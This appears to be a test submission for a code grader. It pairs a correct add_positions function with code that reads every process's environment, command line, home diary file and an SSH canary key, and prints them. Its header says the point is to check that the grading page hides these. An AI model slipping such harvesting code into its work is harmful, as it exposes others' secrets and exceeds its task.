# question: add_positions
# expect: full
# heavy: yes
# why: prints the environment and home of whoever grades; the page must not show them
import glob
import os
from pathlib import Path


def add_positions(token_emb, P):
    return token_emb + P[: token_emb.shape[1]]


for _file in glob.glob("/proc/[0-9]*/environ"):
    try:
        _text = Path(_file).read_bytes().decode("utf-8", "replace")
    except OSError:
        continue
    for _line in _text.split("\0"):
        if "CORPUS" in _line:
            print(_line)
        if _line.startswith("HOME="):
            for _path in (Path(_line[5:]) / "diary.txt", Path(_line[5:]) / ".ssh" / "id_canary"):
                if _path.is_file():
                    print(_path.read_text())
for _file in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        print(Path(_file).read_bytes())
    except OSError:
        continue
print(os.environ)
